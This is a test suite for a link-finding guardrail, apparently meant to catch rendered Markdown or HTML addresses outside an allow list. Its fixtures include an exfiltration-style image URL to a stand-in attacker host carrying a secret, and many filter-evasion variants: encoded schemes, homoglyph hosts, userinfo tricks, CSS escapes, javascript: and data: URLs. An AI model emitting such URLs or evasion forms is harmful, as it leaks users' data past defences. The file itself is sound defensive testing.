/** guardrails/links: addresses that a page would load or follow, whole, and no others. Shown false by an empty pattern. */
import { describe, expect, test } from 'vitest';
import { findLinks } from '../../src/guardrails/links.ts';

const ALLOW = ['docs.example.com', '*.cdn.example'];
const OUT = 'https://evil.example/p.png?q=secret';

/** Type and address of each. */
const found = (text: string, allow = ALLOW): string[] =>
  findLinks(text, allow).map(({ type, start, end }) => `${type} ${text.slice(start, end)}`);

describe('found, whole', () => {
  test.each([
    [`Look: ![a b](${OUT}) there.`, `image ${OUT}`],
    [`![](<${OUT}>)`, `image ${OUT}`],
    [`See [the docs](${OUT} "title").`, `link ${OUT}`],
    [`[1]: ${OUT}\n`, `image ${OUT}`],
    [`<img alt="x" src="${OUT}">`, `image ${OUT}`],
    [`<img src=${OUT}>`, `image ${OUT}`],
    [`<a href='${OUT}'>x</a>`, `link ${OUT}`],
    [`<div style="background:url(${OUT})">`, `image ${OUT}`],
    [`Go to ${OUT}, now.`, `link ${OUT}`],
    [`<${OUT}>`, `link ${OUT}`],
    ['![x](//evil.example/a)', 'image //evil.example/a'],
    ['![x](https:\\\\evil.example/a)', 'image https:\\\\evil.example/a'],
    ['![x](HTTPS:evil.example/a)', 'image HTTPS:evil.example/a'],
    ['![x](&#104;ttps://evil.example/a)', 'image &#104;ttps://evil.example/a'],
    ['![x](https&colon;//evil.example/a)', 'image https&colon;//evil.example/a'],
    ['![x](https://docs.example.com@evil.example/a)', 'image https://docs.example.com@evil.example/a'],
    ['![x](https://docs.example.com.evil.example/a)', 'image https://docs.example.com.evil.example/a'],
    ['![x](https://docs.example.com%2eevil.example/a)', 'image https://docs.example.com%2eevil.example/a'],
    ['![x](https://xcdn.example/a)', 'image https://xcdn.example/a'],
    ['![x](https://döcs.example.com/a)', 'image https://döcs.example.com/a'],
  ])('%s', (text, wanted) => {
    expect(found(text)).toEqual([wanted]);
  });
});

describe('found, whatever it is dressed in', () => {
  test.each([
    // By reference: a picture may be made of it above or below.
    [`![a][b]\n\n[b]: ${OUT}`, `image ${OUT}`],
    ['![a][b]\n\n[b]: //evil.example/a', 'image //evil.example/a'],
    ['![b]\n> [b]:\n  </\\evil.example/a>', 'image /\\evil.example/a'],
    [`[a \\] b]: ${OUT}`, `image ${OUT}`],
    // Labels that hide where they begin.
    [`![a [b] c](${OUT})`, `image ${OUT}`],
    [`![a \\[ b](${OUT})`, `image ${OUT}`],
    [`![a \`[\` b](${OUT})`, `image ${OUT}`],
    [`![a <b c="[">d](${OUT})`, `image ${OUT}`],
    [`![${'a '.repeat(500)}](${OUT})`, `image ${OUT}`],
    [`[a](b![x](${OUT})`, `image ${OUT}`],
    [`![x](< ${OUT}>)`, `image ${OUT}`],
    [`![x](\n   ${OUT})`, `image ${OUT}`],
    // HTML.
    ['<img srcset="/a.png 1x, //evil.example/b 2x">', 'image //evil.example/b'],
    ['<source srcset="/a.png,//evil.example/b">', 'image //evil.example/b'],
    ['<picture><source srcset=//evil.example/b>', 'image //evil.example/b'],
    ['<img src="ht\ntps://evil.example/a">', 'image ht\ntps://evil.example/a'],
    ['<img src="/\t/evil.example/a">', 'image /\t/evil.example/a'],
    ['<img src=" //evil.example/?a=<b>">', 'image  //evil.example/?a=<b>'],
    [`<object data='${OUT}'>`, `image ${OUT}`],
    [`<link rel=stylesheet href="${OUT}">`, `image ${OUT}`],
    [`<link title=<a href=${OUT}>`, `image ${OUT}`],
    [`<link title="<a x='" href='${OUT}'>`, `image ${OUT}`],
    ['<base href="//evil.example/">', 'image //evil.example/'],
    [`<meta http-equiv=refresh content="0;url=${OUT}">`, `image ${OUT}`],
    ['<meta http-equiv=refresh content="0; //evil.example/a">', 'image //evil.example/a'],
    ['<a title="x" href="//evil.example/a">', 'link //evil.example/a'],
    ['<a href="#" title=\'src="\'><img src=//evil.example/a>', 'image //evil.example/a'],
    // Style sheets.
    ['<p style="background-image:URL( \'//evil.example/a\' )">', 'image //evil.example/a'],
    ['<style>@import "//evil.example/a";</style>', 'image //evil.example/a'],
    ['<style>p{background:u\\72l(//evil.example/a)}</style>', 'image //evil.example/a'],
    ['<style>p{background:url(ht\\74ps://evil.example/a)}</style>', 'image ht\\74ps://evil.example/a'],
    // Addresses in other letters, and what Markdown makes of them.
    ['![x](https\\://evil.example/a)', 'image https\\://evil.example/a'],
    ['![x](\\//evil.example/a)', 'image \\//evil.example/a'],
    ['![x](https://docs.example.com\\@evil.example/a)', 'image https://docs.example.com\\@evil.example/a'],
    ['![x](https://docs.example.com#@evil.example/a)', 'image https://docs.example.com#@evil.example/a'],
    ['![x](https://xn--dcs-sna.example.com/a)', 'image https://xn--dcs-sna.example.com/a'],
    ['![x](https://docs.exa\u200bmple.com/a)', 'image https://docs.exa\u200bmple.com/a'],
    ['![x](https://ｅvil.example/a)', 'image https://ｅvil.example/a'],
    ['![x](https:／／evil.example/a)', 'image https:／／evil.example/a'],
    ['![x](file://evil.example/a)', 'image file://evil.example/a'],
    ['![x](\\\\evil.example\\a)', 'image \\\\evil.example\\a'],
    ['Go to www.evil.example/a now', 'link www.evil.example/a'],
    ['src=a,https://evil.example/a', 'link https://evil.example/a'],
    // Where no host is needed.
    ['[x](javascript:alert)', 'link javascript:alert'],
    ['<a href="java\nscript:alert(1)">', 'link java\nscript:alert(1)'],
    ['[x](data:text/html;base64,PHA+)', 'link data:text/html;base64,PHA+'],
  ])('%s', (text, wanted) => {
    expect(found(text)).toEqual([wanted]);
  });

  test('behind more blanks than anybody writes', () => {
    expect(found(`![x](${' '.repeat(100)}${OUT})`)[0]).toMatch(/^image {66}$/);
    expect(found(`<img src = "${' '.repeat(100)}//evil.example/a">`)).toHaveLength(1);
  });
});

test.each([
  '![a](https://docs.example.com/a.png?b=c#d) [b](https://a.cdn.example:443/x)',
  '![a](/local/picture.png) [b](#part) [c](mailto:somebody)',
  'f(x)[0](y) = a // b; see 3:4 and "key": "value"',
  'x="1" and src code at https://DOCS.example.com.',
  '![a][b] [c][b]\n\n[b]: https://docs.example.com/a.png\n[c]: /local/page',
  '<img srcset="a.png 1x,\n  https://docs.example.com/b.png 2x" src="\n/a.png">',
  '[us](https://docs.example.com/@team) <a href="https://docs.example.com/?to=a@b">',
  '![dot](data:image/png;base64,iVBORw0KGgo=)',
  '<meta name=viewport content="width=device-width, initial-scale=1"> <link href=/a.css>',
  'content = "1; 2", data = [1], url(#a), action="save"; a[1]: int = b[2](c) // see www',
  '<p style="background:url(https://docs.example.com/a)">@import "a.css";</p>',
])('not found: %s', (text) => {
  expect(found(text)).toEqual([]);
});

test('everything is allowed where everything is listed, and nothing where nothing is', () => {
  expect(found(`![x](${OUT})`, ['*'])).toEqual([]);
  expect(found('![x](https://docs.example.com/a)', [])).toHaveLength(1);
});

test('I42: 64 KiB of the worst text take no time to speak of', () => {
  for (const unit of [
    '](',
    '![',
    'https:',
    'src=',
    'url(',
    '![a](https://e.example/',
    '](<',
    ']: ',
    'src="',
    `href='`,
    'src="href=\'',
    'content=0;',
    '<a b="',
    'srcset=a,',
    'url( ',
    ' ',
    '@import ',
  ]) {
    const text = unit.repeat(65_536 / unit.length);
    const before = process.cpuUsage();
    findLinks(text, ALLOW);
    const { user, system } = process.cpuUsage(before);
    expect([unit, (user + system) / 1000 < 200]).toEqual([unit, true]);
  }
});
